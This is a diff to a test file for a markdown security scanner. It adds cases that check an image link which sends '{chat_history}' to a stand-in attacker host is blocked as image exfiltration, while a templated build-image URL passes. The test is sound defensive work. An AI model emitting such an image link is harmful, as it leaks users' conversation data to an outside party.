@@ -174,6 +174,10 @@ def test_dns_and_image_side_channels() -> None:
     assert rules(md(image)) == {"code.image-exfiltration": "block"}
     badge = "![build](https://img.shields.io/badge/build-passing-green?style=flat)\n"
     assert rules(md(badge)) == {}
+    template = "![shot](https://{org}.visualstudio.com/{projectId}/pullRequests/{prId}/a.png)\n"
+    assert rules(md(template)) == {}
+    hidden_host = "![x](https://{org}.px.attacker.invalid/p.png?d={chat_history})\n"
+    assert rules(md(hidden_host)) == {"code.image-exfiltration": "block"}
 
 
 # -- the other families of the rule table -----------------------------------------------------
